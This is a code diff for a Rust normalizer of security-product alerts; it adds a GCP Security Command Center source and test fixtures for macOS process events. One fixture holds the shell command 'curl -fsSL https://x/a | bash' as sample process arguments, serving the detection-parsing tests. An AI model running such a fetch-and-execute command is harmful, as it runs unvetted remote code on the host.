@@ -1376,6 +1376,7 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         xdr::cybereason,
         xdr::cisco_secure_endpoint,
         xdr::limacharlie,
+        xdr::gcp_scc,
         xdr::carbon_black_edr,
         xdr::tracee,
         xdr::prisma_runtime,
@@ -5193,6 +5194,15 @@ mod tests {
             "headers": {}, "method": "post", "query_parameters": {}}});
         let t = from_json(tines, "x").unwrap();
         assert_eq!(t.doc["process"]["command_line"], "/bin/bash /tmp/x.sh");
+        // The execution message under a shortened name (`exec`).
+        let short = from_json(json!({"machine_id": "M2", "event_time": "2025-12-11T19:48:03Z", "exec": {
+            "instigator": {"executable": {"path": "/Volumes/X/X.app/Contents/MacOS/X"}},
+            "target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog 1"]}}), "x").unwrap();
+        assert_eq!(short.doc["process"]["executable"], "/usr/bin/osascript");
+        assert_eq!(
+            short.doc["process"]["parent"]["executable"],
+            "/Volumes/X/X.app/Contents/MacOS/X"
+        );
         let splunk = json!({"sid": "s1", "search_name": "fwd", "result": {"_time": "1", "host": "MBA-1", "sourcetype": "jamf", "index": "edr",
             "input.eventType": "GPProcessEvent",
             "_raw": "{\"caid\":\"c\",\"input\":{\"eventType\":\"GPProcessEvent\",\"host\":{\"hostname\":\"MBA-1\"},\"match\":{\"uuid\":\"u1\",\"event\":{\"pid\":9},\"facts\":[]},\"related\":{\"processes\":[{\"pid\":9,\"ppid\":1,\"path\":\"/bin/bash\",\"args\":[\"/bin/bash\",\"-c\",\"curl -fsSL https://x/a | bash\"]}]}}}"}});
